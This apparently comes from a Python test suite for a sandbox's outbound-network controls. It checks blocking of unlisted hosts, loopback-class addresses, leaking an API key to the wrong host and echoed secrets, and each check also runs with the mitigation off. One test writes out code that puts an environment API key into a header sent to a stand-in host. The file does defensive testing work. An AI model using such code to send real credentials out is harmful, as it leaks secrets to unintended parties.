"""Attacks on the way out (groups H and I), each with the mitigation off as well.

The small internet of tests/cli/egress_world.py is both ends; what arrived there
decides.

SPDX-License-Identifier: Apache-2.0
"""

from __future__ import annotations

import atexit
import functools
import json
import threading
import unittest
from pathlib import Path
from typing import Any

from egress_box import SECRET, SECRETS, World
from tool import Caisson, needs_jail

LOCK = threading.Lock()


@functools.cache
def world(binary: Path) -> World:
    made = World(binary)
    atexit.register(made.close)
    made.exec(made.policy("allow: [api.test]"), "true")  # probes are kept
    return made


def visit(caisson: Caisson, egress: str, code: str, weak: str = "", **more: Any) -> tuple[Any, Any]:
    """What the program printed, and what the servers saw."""
    needs_jail(caisson)
    with LOCK:
        w = world(Path(caisson.binary))
        w.log()
        env = {**more.pop("env", {}), **({"CAISSON_WEAKEN": weak} if weak else {})}
        got, _ = w.python(w.policy(egress, more.pop("also", "")), code, env=env, **more)
        return got, w.log()


def without(caisson: Caisson, wall: str, *args: Any, **more: Any) -> tuple[Any, Any]:
    """The same with one mitigation off; only test builds can."""
    try:
        return visit(caisson, *args, weak=wall, **more)
    except AssertionError as why:
        if "weaken" in str(why):
            raise unittest.SkipTest("a release build has no such switch") from None
        raise


def test_h01_h06_unlisted_names(caisson: Caisson) -> None:
    code = 'print(json.dumps([connect(n)[1] for n in ("other.test", "mixed.test")]))'
    rules = "allow: [api.test, '*.wild.test']"
    got, seen = visit(caisson, rules, code)
    assert got == ["403 not_allowed"] * 2
    assert seen["dns"] == []
    assert seen["http"] == []
    got, seen = without(caisson, "egress.names", rules, code)
    assert got == ["200"] * 2


def test_h08_h28_addresses_that_are_not_public(caisson: Caisson) -> None:
    code = 'print(json.dumps(verdict(raw(b"GET http://loopback.test/ HTTP/1.1\\r\\nHost: loopback.test\\r\\nConnection: close\\r\\n\\r\\n"))))'
    rules = "allow: [{host: loopback.test, proto: http}]"
    got, seen = visit(caisson, rules, code)
    assert got == "403 address_class"
    assert seen["http"] == []
    got, seen = without(caisson, "egress.addresses", rules, code)
    assert got == "200"
    assert len(seen["http"]) == 1


def test_i02_a_placeholder_for_another_host(caisson: Caisson) -> None:
    code = 'print(json.dumps(verdict(get("other.test", "/", "X: " + os.environ["API_KEY"] + "\\r\\n"))))'
    rules = "allow: [api.test, other.test]"
    more = {"also": SECRETS, "options": ("--secret", "api_key"),
            "env": {"CAISSON_TEST_SECRET": SECRET}}
    got, seen = visit(caisson, rules, code, **more)
    assert got == "403 secret_misuse"
    assert seen["http"] == []
    got, seen = without(caisson, "egress.secrets", rules, code, **more)
    assert SECRET in json.dumps(seen["http"])


def test_i03_a_server_that_sends_the_value_back(caisson: Caisson) -> None:
    code = 'print(json.dumps(get("api.test", "/header", "Authorization: " + os.environ["API_KEY"] + "\\r\\n").decode()))'
    rules = "allow: [api.test]"
    more = {"also": SECRETS, "options": ("--secret", "api_key"),
            "env": {"CAISSON_TEST_SECRET": SECRET}}
    got, seen = visit(caisson, rules, code, **more)
    assert SECRET in json.dumps(seen["http"])
    assert SECRET not in got
    got, _ = without(caisson, "egress.scrub", rules, code, **more)
    assert SECRET in got
